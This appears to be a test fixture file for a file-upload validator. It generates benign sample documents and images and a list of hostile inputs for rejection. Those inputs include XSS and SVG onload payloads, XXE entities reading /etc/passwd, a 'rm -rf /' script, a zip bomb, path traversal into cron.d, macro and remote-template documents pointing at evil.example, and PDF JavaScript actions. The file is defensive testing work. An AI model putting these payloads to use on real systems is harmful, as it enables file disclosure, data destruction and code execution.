// Files as people send them, and as somebody does who means harm (trust.md threat 11).
import { crc32 } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';

const latin = (text: string) => Buffer.from(text, 'latin1');
const u16 = (value: number) => Buffer.from([value >> 8, value & 255]);

export const PDF = latin('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

/** A part of a JPEG with its length. */
const segment = (marker: number, body: Buffer) =>
  Buffer.concat([Buffer.from([0xff, marker]), u16(body.length + 2), body]);
const frame = (width: number, height: number) =>
  segment(0xc0, Buffer.concat([Buffer.from([8]), u16(height), u16(width), Buffer.from([1, 1, 0x11, 0])]));

/** Where it was taken, and that it is turned, as a telephone writes it. */
export const EXIF = (turned = 6) =>
  segment(
    0xe1,
    Buffer.concat([
      latin('Exif\0\0'),
      Buffer.from([0x4d, 0x4d, 0, 42, 0, 0, 0, 8, 0, 1, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, turned, 0, 0, 0, 0, 0, 0]),
      latin('GPS 54.7761 N 1.5733 W QUINCE PHONE'),
    ]),
  );

/** A photograph; with parts of a camera's, a size, and what stands after its end. */
export const jpeg = ({ width = 20, height = 10, more = Buffer.alloc(0), tail = Buffer.alloc(0) } = {}) =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    more,
    segment(0xdb, Buffer.alloc(65)),
    frame(width, height),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    Buffer.from([1, 2, 0xff, 0, 3, 0xff, 0xd0, 4]),
    Buffer.from([0xff, 0xd9]),
    tail,
  ]);

const chunk = (type: string, body: Buffer) => {
  const named = Buffer.concat([latin(type), body]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(body.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([size, named, sum]);
};
export const png = ({ width = 20, height = 10, tail = Buffer.alloc(0) } = {}) => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  return Buffer.concat([
    latin('\u0089PNG\r\n\u001a\n'),
    chunk('IHDR', head),
    chunk('tEXt', latin('Author\0QUINCE')),
    chunk('IDAT', Buffer.from([1, 2, 3])),
    chunk('IEND', Buffer.alloc(0)),
    tail,
  ]);
};

/** A Word document with these parts besides its own. */
export const docx = (more: Record<string, Uint8Array> = {}) =>
  Buffer.from(
    zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w:document/>'), ...more }),
  );

export const xlsx = () =>
  Buffer.from(zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<workbook/>') }));

const entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';

const fetched = (what: string) =>
  `<Relationships><Relationship Id="a" Type="http://schemas.example/${what}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
/** A document with a link that its reader may follow. */
export const linked = () => docx({ 'word/_rels/document.xml.rels': strToU8(fetched('hyperlink')) });

/** The list of an archive, changed for its last part. */
const listed = (bytes: Buffer, change: (list: Buffer) => void) => {
  change(bytes.subarray(bytes.lastIndexOf(latin('PK\u0001\u0002'))));
  return bytes;
};
const lying = (bytes: Buffer) => listed(bytes, (list) => list.writeUInt32LE(500, 24));
const locked = (bytes: Buffer) => listed(bytes, (list) => list.writeUInt16LE(1, 8));

/** What is not taken, each with what it is. */
export const HOSTILE: readonly (readonly [what: string, bytes: Uint8Array])[] = [
  ['a page', latin('<!doctype html><script>alert(1)</script>')],
  ['a page that begins with words', latin('Dear all, <script src=//x></script>')],
  ['a picture with a program (SVG)', latin(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)],
  ['an SVG with an entity', latin(entity.replace('<x>', '<svg>'))],
  ['XML with an entity', latin(entity)],
  ['a script', latin('#!/bin/sh\nrm -rf /')],
  ['a program of Windows', latin('MZ\u0090\0\u0003\0\0\0')],
  ['an archive', Buffer.from(zipSync({ 'a.txt': strToU8('x') }))],
  ['a zip bomb in a Word document', docx({ 'word/big.xml': new Uint8Array(60_000_000) })],
  ['a Word document with a program', docx({ 'word/vbaProject.bin': strToU8('x') })],
  ['a Word document with another in it', docx({ 'word/embeddings/x.bin': strToU8('x') })],
  ['a Word document that leaves its folder', docx({ '../../etc/cron.d/x': strToU8('x') })],
  ['a Word document with an entity', docx({ 'docProps/core.xml': strToU8(entity) })],
  [
    'a Word document with an entity in two bytes a sign',
    docx({ 'docProps/core.xml': Buffer.from(`\ufeff${entity}`, 'utf16le') }),
  ],
  [
    'a Word document that fetches its template from elsewhere',
    docx({ 'word/_rels/settings.xml.rels': strToU8(fetched('attachedTemplate')) }),
  ],
  [
    'a Word document with a program under another name',
    docx({
      '[Content_Types].xml': strToU8('<Types><x ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'),
    }),
  ],
  [
    'a Word document whose list says less than it unpacks to',
    lying(docx({ 'docProps/big.xml': new Uint8Array(900_000) })),
  ],
  ['a Word document under a password', locked(docx())],
  ['a Word document with something after its end', Buffer.concat([docx(), latin('<script>')])],
  ['an archive that is cut off', docx().subarray(0, 60)],
  [
    'a PDF with a program',
    latin(PDF.toString('latin1').replace('/Catalog', '/Catalog/OpenAction<</S/JavaScript/JS(x)>>')),
  ],
  [
    'a PDF with a program, spelt by numbers',
    latin(PDF.toString('latin1').replace('/Catalog', '/Catalog/OpenAction<</S/J#61vaScript/JS(x)>>')),
  ],
  ['a PDF with a file in it', latin(PDF.toString('latin1').replace('/Catalog', '/Catalog/EmbeddedFile 2 0 R'))],
  ['a PDF that is an archive, too', Buffer.concat([PDF, docx()])],
  ['a PDF without an end', latin('%PDF-1.4\nx')],
  ['a flood of dots (JPEG)', jpeg({ width: 65_000, height: 65_000 })],
  ['a flood of dots (PNG)', png({ width: 1_000_000, height: 1_000_000 })],
  ['a JPEG that is cut off', jpeg().subarray(0, 40)],
  ['a PNG whose first part is none', Buffer.concat([latin('\u0089PNG\r\n\u001a\n'), chunk('IDAT', Buffer.alloc(3))])],
  ['a photograph of Apple’s', Buffer.concat([Buffer.from([0, 0, 0, 24]), latin('ftypheic'), Buffer.alloc(12)])],
  ['RTF', latin('{\\rtf1 {\\object\\objdata 01}}')],
  ['signs that no text has', Buffer.from([65, 0, 66])],
  ['half a letter', Buffer.from([0xc3])],
  ['nothing', Buffer.alloc(0)],
];
